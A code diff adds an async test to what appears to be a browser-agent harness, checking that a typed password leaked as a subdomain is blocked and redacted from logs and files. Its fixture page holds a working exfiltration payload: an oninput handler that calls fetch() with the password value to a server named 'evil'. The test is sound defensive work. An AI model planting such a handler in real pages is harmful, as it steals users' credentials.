@@ -343,3 +343,27 @@ async def test_a_download_named_after_the_secret_leaves_no_name_behind(
         assert "S3cr" not in path.name and "w0rd" not in path.name, path
         if path.is_file():
             assert b"S3cr" not in path.read_bytes(), path
+
+
+async def test_a_secret_sent_as_a_host_name_is_redacted_in_any_case(
+    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
+) -> None:
+    """A page that sends the typed value as a subdomain: Chromium lowercases the host,
+    and the refused request is recorded in the step, where the value must not be."""
+    site, evil = servers
+    value = "Hunter2Pass"
+    site.pages["/login"] = _page(
+        "<input aria-label='Password' oninput=\"fetch('http://' + this.value + "
+        f"'.localhost:{evil.port}/x', {{mode: 'no-cors'}}).catch(() => 0)\">")
+    task = WebTask(id="secret", url=f"http://127.0.0.1:{site.port}/login", goal="Sign in.",
+                   max_steps=3)
+    model = Model([fill_secret("textbox 'Password'"), "noop(500)"])
+    config = EpisodeConfig(secrets=SecretStore({"password": Secret("password", value)}))
+    summary = await run_episode(task, EpisodeResources(browser, model), tmp_path, config)
+    assert summary.status == "finished", summary.error
+    hosts = [c.host for s in read_steps(tmp_path / "secret") for c in s.refused_connections]
+    assert f"{PLACEHOLDER}.localhost:{evil.port}" in hosts, hosts
+    assert sum(evil.hits.values()) == 0
+    for path in (tmp_path / "secret").rglob("*"):
+        if path.is_file():
+            assert b"hunter2pass" not in path.read_bytes().lower(), path
